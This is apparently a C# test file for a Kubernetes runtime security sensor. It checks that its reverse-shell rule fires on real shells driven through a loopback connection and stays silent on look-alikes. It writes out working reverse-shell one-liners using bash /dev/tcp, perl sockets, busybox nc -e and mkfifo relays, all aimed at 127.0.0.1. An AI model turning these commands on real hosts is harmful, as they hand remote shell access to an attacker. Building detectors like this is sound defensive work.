using System.Net;
using System.Net.Sockets;
using KubeCop.Core.Events;
using KubeCop.Core.Rules;
using KubeCop.Core.Workloads;

namespace KubeCop.Node.Tests.Sensor;

/// <summary>R1100 on what the real kernel tells of shells that are driven through a connection to a listener on loopback, and of some that are not.</summary>
[Collection(nameof(KernelSide))]
public sealed class ReverseShellTests(KernelSide kernel) : IDisposable
{
    private static readonly ContainerDescription Container = new()
    {
        Id = "c0ffee",
        Name = "web",
        Runtime = "containerd",
        Node = "node-1",
        Workload = new WorkloadKey("shop", "Deployment", "web"),
        Origin = ContainerOrigin.Started,
        SeenAt = DateTimeOffset.UnixEpoch,
        CgroupId = 1,
        CgroupPath = "/",
        Revision = "r1",
    };

    private readonly WatchedCgroup _cgroup = new(kernel.Programs);
    private readonly string _directory = Directory.CreateTempSubdirectory("kubecop-test-").FullName;

    public void Dispose()
    {
        _cgroup.Dispose();
        Directory.Delete(_directory, recursive: true);
    }

    [Theory]
    [InlineData("bash -c 'bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1'", "a connection with 127.0.0.1:PORT")]
    [InlineData(
        "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(PORT, inet_aton(\"127.0.0.1\"))) or die; "
            + "open(STDIN, \"<&S\"); open(STDOUT, \">&S\"); exec \"/bin/sh\", \"-i\"'",
        "a connection with 127.0.0.1:PORT")]
    [InlineData("/bin/busybox nc 127.0.0.1 PORT -e /bin/sh", "a connection with 127.0.0.1:PORT")]
    [InlineData("/bin/busybox cat DIR/f | /bin/sh -i 2>&1 | /bin/busybox nc 127.0.0.1 PORT >DIR/f", "pipes held by /bin/busybox")]
    [InlineData("/bin/busybox sh -c 'busybox nc 127.0.0.1 PORT -e sh'", "a connection with 127.0.0.1:PORT")]
    [InlineData("/bin/busybox sh -c 'cat DIR/f | sh -i 2>&1 | nc 127.0.0.1 PORT >DIR/f'", "pipes held by nc")]
    [InlineData("/bin/sh -i <DIR/f 2>&1 | /bin/busybox nc 127.0.0.1 PORT >DIR/f", "pipes held by /bin/busybox")]
    [InlineData(
        "perl -MSocket -MIPC::Open2 -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(PORT, inet_aton(\"127.0.0.1\"))) or die; "
            + "$p = open2($out, $in, \"/bin/sh\"); while (<S>) { print $in $_; last } close($in); print <$out>; waitpid($p, 0)'",
        "pipes made by")]
    public void Shell_DrivenThroughAConnection_IsFoundOnce(string script, string way)
    {
        var (findings, port) = Run(script);

        var finding = Assert.Single(findings);
        Assert.Contains(way.Replace("PORT", $"{port}", StringComparison.Ordinal), finding.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("echo : | /bin/sh | /bin/busybox cat")]
    [InlineData("/bin/busybox nc 127.0.0.1 PORT </dev/null | /bin/sh")] // curl … | sh
    [InlineData("echo : | /bin/sh | /bin/busybox nc 127.0.0.1 PORT")] // a log that is sent
    [InlineData("perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(PORT, inet_aton(\"127.0.0.1\"))) or die; print `echo x; echo y`'")]
    [InlineData("bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT; /bin/sh -c : <&3'")]
    public void Shell_ThatIsNot_IsNone(string script) => Assert.Empty(Run(script).Findings);

    private (List<Finding> Findings, int Port) Run(string script)
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var port = ((IPEndPoint)listener.LocalEndpoint).Port;
        var hangUp = HangUpAsync(listener);

        // No .bashrc of whoever runs the tests: what it starts has the shell's standard streams.
        var command = script.Replace("PORT", $"{port}", StringComparison.Ordinal).Replace("DIR", _directory, StringComparison.Ordinal);
        _cgroup.Run($"export HOME={_directory}; /bin/busybox mkfifo {_directory}/f; {command}; :");
        listener.Stop();
        hangUp.Wait(TestContext.Current.CancellationToken);

        var type = RuleCatalog.Types.Single(static type => type.Descriptor.Id == "R1100");
        var rule = type.Create(RuleArguments.Default).ForContainer();
        var findings = new List<Finding>();
        foreach (var sensorEvent in _cgroup.Events.Where(one => (one.Flags & EventFlags.Setup) == 0 && type.Descriptor.Events.Contains(one.Kind)))
        {
            if (rule.Evaluate(sensorEvent, new RuleContext(Container, null)) is { } finding)
            {
                findings.Add(finding);
            }
        }

        return (findings, port);
    }

    // Whoever connects is told to end, and hung up on when it has: a relay must not end before its shell has begun.
    private static async Task HangUpAsync(TcpListener listener)
    {
        var buffer = new byte[4096];
        try
        {
            while (true)
            {
                using var socket = await listener.AcceptSocketAsync();
                await socket.SendAsync("exit\n"u8.ToArray());
                while (await socket.ReceiveAsync(buffer) > 0)
                {
                }
            }
        }
        catch (Exception exception) when (exception is SocketException or InvalidOperationException)
        {
            // The listener was stopped, while it waited or before it was asked again.
        }
    }
}
